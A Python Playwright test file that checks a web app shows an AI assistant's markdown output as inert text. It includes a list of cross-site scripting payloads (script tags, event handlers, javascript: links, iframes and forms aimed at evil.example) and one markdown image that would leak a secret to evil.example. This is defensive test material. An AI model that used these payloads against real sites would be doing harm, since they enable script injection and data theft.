"""What a model writes is shown and never obeyed."""

from __future__ import annotations

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.page.fake_api import FakeApi

EVIL = [
    "<script>window.hit = 1</script>",
    '<img src="x" onerror="window.hit = 1">',
    "<svg onload=window.hit=1>",
    "[click](javascript:window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)",
    '<a href="https://ok.example" onclick="window.hit=1">a</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body{display:none}</style><p style="position:fixed">x</p>',
    "<form action=https://evil.example><input name=q></form>",
    '`<b onmouseover="window.hit=1">`',
]


def show(api: FakeApi, page: Page, words: str) -> Locator:
    session = api.session([{"id": "m1", "type": "assistant_text", "text": words}])
    page.goto(f"{api.url}?session={session.id}")
    shown = page.locator("#transcript .markdown")
    expect(shown).to_be_visible()
    return shown


def test_markup_in_an_answer_is_only_text(api: FakeApi, page: Page) -> None:
    shown = show(api, page, "\n\n".join(EVIL))
    for tag in ("script", "img", "svg", "iframe", "style", "form", "input"):
        expect(shown.locator(f".md-block {tag}:not(.icon, .icon *)")).to_have_count(0)
    assert shown.locator("a[href^='javascript'], a[href^='data'], [onclick], [style]").count() == 0
    for link in shown.locator("a").all():
        link.click(trial=True)
    assert page.evaluate("window.hit") is None
    expect(shown).to_contain_text("window.hit = 1")


def test_no_picture_is_fetched_from_elsewhere(api: FakeApi, page: Page) -> None:
    dot = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
    shown = show(api, page, f"![stolen](https://evil.example/?q=secret)\n\n![dot]({dot})")
    link = shown.get_by_role("link", name="Image: stolen")
    expect(link).to_have_attribute("href", "https://evil.example/?q=secret")
    expect(shown.locator("img")).to_have_count(1)  # the fixture refuses any foreign request


@pytest.mark.parametrize("address", ["https://ok.example/a", "mailto:a@ok.example"])
def test_links_open_apart(api: FakeApi, page: Page, address: str) -> None:
    link = show(api, page, f"[there]({address})").get_by_role("link", name="there")
    expect(link).to_have_attribute("href", address)
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_markdown_is_drawn(api: FakeApi, page: Page) -> None:
    words = """# Head

- [x] one
- two [ref]

| a | b |
|---|--:|
| x<br>y | 2 |

```python
print("hi")
```

[ref]: https://ok.example
"""
    shown = show(api, page, words)
    expect(shown.get_by_role("heading", name="Head")).to_be_visible()
    expect(shown.get_by_role("checkbox")).to_be_checked()
    expect(shown.get_by_role("checkbox")).to_be_disabled()
    expect(shown.get_by_role("link", name="ref")).to_be_visible()
    expect(shown.get_by_role("region", name="Table").locator("td")).to_have_count(2)
    expect(shown.locator("pre")).to_have_text('print("hi")\n')
    expect(shown.locator(".code-head")).to_contain_text("python")


def test_only_changed_blocks_are_drawn_again(api: FakeApi, page: Page) -> None:
    page.goto(api.url)
    kept = page.evaluate(
        """async () => {
          const { MarkdownView } = await import("/static/sessions_app/markdown.js");
          const view = new MarkdownView();
          view.update("First.\\n\\nSecond");
          const [first, second] = view.node.children;
          view.update("First.\\n\\nSecond grows");
          return [view.node.children[0] === first, view.node.children[1] === second,
            view.node.textContent.replace(/\\n/g, "")];
        }"""
    )
    assert kept == [True, False, "First.Second grows"]
